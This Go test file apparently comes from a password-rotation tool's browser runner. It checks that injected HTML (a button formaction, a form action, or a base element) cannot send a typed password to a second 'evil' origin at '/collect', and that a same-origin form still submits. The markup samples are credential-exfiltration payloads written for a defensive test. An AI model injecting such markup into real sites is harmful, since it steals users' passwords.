package browser

import (
	"errors"
	"fmt"
	"testing"

	"github.com/rotator-pam/rotator/templates"
)

// Markup injected into the site's own page, with no script, points the
// sign-in form elsewhere: a button's formaction, the form's action, or a
// base element. The secret is typed on the site, but the click or key
// press that would send it away is refused, and the other origin receives
// nothing. A form that posts to the site itself goes through.
func TestSecretNotSentToAnotherOrigin(t *testing.T) {
	t.Parallel()
	pages := map[string]string{
		"formaction": `<form method="post" action="/ok"><input id="password" name="pw" type="password"><button id="go" formaction="%s/collect">Sign in</button></form>`,
		"action":     `<form method="post" action="%s/collect"><input id="password" name="pw" type="password"><button id="go">Sign in</button></form>`,
		"base":       `<base href="%s/"><form method="post" action="collect"><input id="password" name="pw" type="password"><button id="go">Sign in</button></form>`,
	}
	for name, markup := range pages {
		for _, submit := range []string{`click: "#go"`, `press: Enter`} {
			t.Run(name+" "+submit, func(t *testing.T) {
				evil := newListener(t)
				srv := site(t, map[string]string{"/login": "<!doctype html>" + fmt.Sprintf(markup, evil.URL), "/ok": "<p>ok</p>"})
				tpl := parseTemplate(t, fmt.Sprintf(`name: t
base_url: http://127.0.0.1:1/
flows:
  login:
    - goto: /login
    - fill: "#password"
      value: "{{ password }}"
    - %s
    - expect: {url: /ok}
  change: [{goto: /}, {expect: {url: /}}]
  logout: [{goto: /}]
`, submit))
				r := exfilRunner(t, tpl, srv.URL)
				err := r.RunFlow(ctxFor(t), templates.FlowLogin)
				var oe *OriginError
				if !errors.As(err, &oe) || !oe.Submit {
					t.Fatalf("got %v, want a refused submit", err)
				}
				if got, leaked := evil.requests("/collect"); leaked || len(got) > 0 {
					t.Fatalf("the other origin received %q", got)
				}
			})
		}
	}
	t.Run("the site's own form", func(t *testing.T) {
		srv := site(t, map[string]string{
			"/login": `<!doctype html><form method="get" action="/ok"><input id="password" name="pw" type="password"><button id="go">Sign in</button></form>`,
			"/ok":    "<p>ok</p>"})
		tpl := parseTemplate(t, `name: t
base_url: http://127.0.0.1:1/
flows:
  login:
    - goto: /login
    - fill: "#password"
      value: "{{ password }}"
    - click: "#go"
    - expect: {url: /ok}
  change: [{goto: /}, {expect: {url: /}}]
  logout: [{goto: /}]
`)
		if err := exfilRunner(t, tpl, srv.URL).RunFlow(ctxFor(t), templates.FlowLogin); err != nil {
			t.Fatal(err)
		}
	})
}
